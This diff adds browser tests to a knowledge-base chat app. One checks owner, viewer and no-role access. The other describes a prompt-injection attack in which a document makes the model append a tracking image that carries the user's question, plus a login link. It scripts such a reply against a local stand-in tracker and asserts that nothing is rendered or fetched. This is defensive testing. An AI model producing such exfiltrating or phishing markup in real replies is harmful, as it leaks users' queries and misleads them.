@@ -428,3 +428,103 @@ def test_an_older_knowledge_base_is_noted_and_switched_from_the_page(tmp_path, f
         assert "multilingual-e5-small" in page.locator("#documents").inner_text()
         shots(page, "switched")
         assert not errors, errors
+
+
+def _login(page, url: str, name: str, password: str) -> None:  # noqa: ANN001
+    page.goto(url, wait_until="domcontentloaded")
+    page.wait_for_selector("input[type=password]", timeout=60_000)
+    page.locator("input[type=text]").first.fill(name)
+    page.locator("input[type=password]").fill(password)
+    page.locator("button:has-text('Login')").click()
+    page.wait_for_selector("#kb-select", timeout=60_000)
+
+
+def test_roles_decide_what_each_user_sees_and_the_owner_grants_from_the_page(tmp_path, files):
+    """`ragkb user` accounts: the owner grants a viewer from the Members panel; the viewer sees the knowledge base
+    and chats, with no upload, delete or member controls; a user with no role does not see it at all."""
+    import subprocess
+
+    from conftest import cli_env, ragkb_exe
+
+    data = tmp_path / "data"
+    env = cli_env(data)
+
+    def ragkb(*args, stdin=""):  # noqa: ANN002, ANN202
+        r = subprocess.run([ragkb_exe(), *args], env=env, input=stdin, capture_output=True, text=True, timeout=600)
+        assert r.returncode == 0, r.stderr
+        return r
+
+    ragkb("ingest", "财务", str(files["zh_pdf"]))
+    ragkb("kb", "create", "人事")
+    for name in ("root", "olga", "vic", "nobody"):
+        ragkb("user", "add", name, stdin=f"{name}-password\n")  # root, the first, is the admin
+    ragkb("kb", "grant", "财务", "olga", "owner")
+    shots = Shots("roles")
+    with running_server(data, tmp_path / "serve.log") as url, browser() as b:
+        owner = b.new_page(viewport={"width": 1280, "height": 1000}, locale="en-US")
+        _login(owner, url, "olga", "olga-password")
+        wait_until(lambda: owner.locator("#kb-select input").first.input_value() == "财务", 30)
+        wait_until(lambda: owner.locator("#kb-members").is_visible(), 30)
+        owner.locator("#kb-members").click()
+        fill(owner, "member-name", "vic")
+        owner.locator("#grant-member").click()
+        wait_until(lambda: "vic" in owner.locator("#members-list").inner_text(), 30)
+        assert "olga" in owner.locator("#members-list").inner_text()
+        shots(owner, "owner-granted-a-viewer")
+        owner.get_by_role("tab", name="Documents").click()
+        wait_until(lambda: owner.locator("#upload").is_visible() and owner.locator("#delete-doc").is_visible(), 30)
+
+        viewer = b.new_page(viewport={"width": 1280, "height": 1000}, locale="en-US")
+        _login(viewer, url, "vic", "vic-password")
+        wait_until(lambda: viewer.locator("#kb-select input").first.input_value() == "财务", 30)
+        wait_until(lambda: not viewer.locator("#kb-owner-tools").is_visible(), 30)
+        viewer.locator("#kb-manage").click()
+        wait_until(lambda: viewer.locator("#create-kb").is_visible(), 30)  # may create a knowledge base of their own
+        assert not viewer.locator("#delete-kb").is_visible() and not viewer.locator("#kb-members").is_visible()
+        viewer.get_by_role("tab", name="Documents").click()
+        wait_until(lambda: "员工手册.pdf" in viewer.locator("#documents").inner_text(), 30)
+        assert not viewer.locator("#upload").is_visible() and not viewer.locator("#ingest").is_visible()
+        assert not viewer.locator("#delete-doc").is_visible() and not viewer.locator("#kb-index").is_visible()
+        shots(viewer, "viewer-documents-read-only")
+        viewer.get_by_role("tab", name="Chat").click()
+        answer = _ask(viewer, "年假有多少天？")
+        assert answer.strip() and "⚠️" not in answer, answer
+        shots(viewer, "viewer-chats")
+
+        stranger = b.new_page(viewport={"width": 1280, "height": 1000}, locale="en-US")
+        _login(stranger, url, "nobody", "nobody-password")
+        wait_until(lambda: "No knowledge base" in stranger.locator("#kb-status").inner_text(), 30)
+        assert stranger.locator("#kb-select input").first.input_value() == ""
+        assert "财务" not in stranger.content() and "人事" not in stranger.content()
+        shots(stranger, "no-role-sees-nothing")
+
+
+def test_an_image_or_link_in_a_reply_is_shown_as_text_and_never_fetched(tmp_path, files):
+    """A document can tell the model to append a tracking image that carries the question, or a link to a
+    login page. The chat shows the reply with such markup inert: the address as text, nothing fetched."""
+    import subprocess
+
+    from conftest import cli_env, ragkb_exe
+    from webui import scripted_model
+
+    data = tmp_path / "data"
+    r = subprocess.run([ragkb_exe(), "ingest", "手册", str(files["zh_pdf"])], env=cli_env(data), capture_output=True,
+                       text=True, timeout=600)
+    assert r.returncode == 0, r.stderr
+    with scripted_model("") as (model_url, fetched):  # the tracker
+        reply = (f"员工工作满一年后享有五天年假 [1]。\n\n![年假]({model_url}/pixel.png?q=年假有多少天) "
+                 f'<img src="{model_url}/raw.png"> 请先在 [这里]({model_url}/login) 登录。')
+        with scripted_model(reply) as (llm_url, _), \
+                running_server(data, tmp_path / "serve.log", RAGKB_LLM_BASE_URL=f"{llm_url}/v1") as url, \
+                browser() as b:
+            page = b.new_page(viewport={"width": 1280, "height": 900}, locale="en-US")
+            page.goto(url, wait_until="domcontentloaded")
+            page.wait_for_selector("#kb-select", timeout=60_000)
+            wait_until(lambda: page.locator("#kb-select input").first.input_value() == "手册", 30)
+            answer = _ask(page, "年假有多少天？")
+            assert "pixel.png" in answer and "/login" in answer, answer  # the reply came through, as text
+            chat = page.locator("#chatbot")
+            assert chat.locator("img[src*='pixel'], img[src*='raw.png']").count() == 0
+            assert chat.locator("a[href*='/login'], a[href*='pixel']").count() == 0
+            Shots("inert-links")(page, "reply-with-tracking-image")
+        assert fetched == []
